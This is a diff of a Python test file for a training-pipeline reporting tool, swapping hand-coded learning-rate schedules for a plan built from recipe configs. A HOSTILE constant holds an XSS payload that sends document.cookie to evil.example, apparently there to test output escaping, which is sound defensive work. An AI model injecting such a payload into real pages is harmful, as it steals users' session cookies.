@@ -2,9 +2,12 @@
 
 import math
 import random
+from dataclasses import replace
 
 import pytest
 
+from headrace.config.compose import load
+from headrace.config.recipe import BatchRampConfig
 from headrace.pipeline.generators import generate
 from headrace.pipeline.simulate import Costs, simulate
 from headrace.pipeline.timeline import COMMUNICATION, Span, idle_shares
@@ -19,11 +22,11 @@ from headrace.reporting.facts import (
     Evaluation,
     ExpertLoad,
     PipelineStep,
+    Plan,
     PrecisionStudy,
     Publication,
     ReportFacts,
     Sample,
-    Schedule,
     Source,
     Split,
     Stage,
@@ -34,6 +37,7 @@ from headrace.reporting.facts import (
     Task,
     Training,
 )
+from headrace.reporting.recipe import facts_of, plan_of
 
 STEPS, TOKENS_PER_STEP = 1464, 2048
 HOSTILE = "<script>fetch('https://evil.example/'+document.cookie)</script><img src=x onerror=alert(1)>\x00\x1b[31m"
@@ -168,29 +172,21 @@ def _training() -> Training:
             "tokens_per_second": tuple(speed),
             "mfu": tuple((x, y * 4.01e-5) for x, y in speed),
         },
-        schedules=_schedules(),
+        plan=_plan(),
         expert_load=_load(),
         formats=(("linear layers and experts", "E4M3, accumulated in FP32"), ("router", "FP32")),
     )
 
 
-def _schedules() -> tuple[Schedule, ...]:
-    def rate(step: int) -> float:
-        if step < 50:
-            return 0.002 * (step + 1) / 50
-        if step < 0.6 * STEPS:
-            return 0.002
-        return 1e-4 + 0.5 * (0.002 - 1e-4) * (1 + math.cos(math.pi * (step / STEPS - 0.6) / 0.4))
-
-    def points(value: object) -> tuple[tuple[float, float], ...]:
-        return tuple((s * TOKENS_PER_STEP, value(s)) for s in range(0, STEPS, 8))  # type: ignore[operator]
-
-    return (
-        Schedule("learning rate", points(rate)),
-        Schedule("MTP weight (lambda)", points(lambda s: 0.3 if s < 0.68 * STEPS else 0.1)),
-        Schedule("sequences per step", points(lambda s: 8.0)),
-        Schedule("bias update speed (gamma)", points(lambda s: 0.001 if s < 0.97 * STEPS else 0.0)),
+def _plan() -> Plan:
+    """The demo's own length and budget, with a ramp and an extension."""
+    extension = load(["recipe=v3_671b"]).recipe.extensions[0]
+    recipe = replace(
+        load(["recipe=demo"]).recipe,
+        batch_ramp=BatchRampConfig(4, "3%", "linear", 4),
+        extensions=(replace(extension, name="context_2x", steps=20, sequence_length=512, batch_sequences=4),),
     )
+    return facts_of(plan_of(recipe))
 
 
 def _load() -> ExpertLoad:
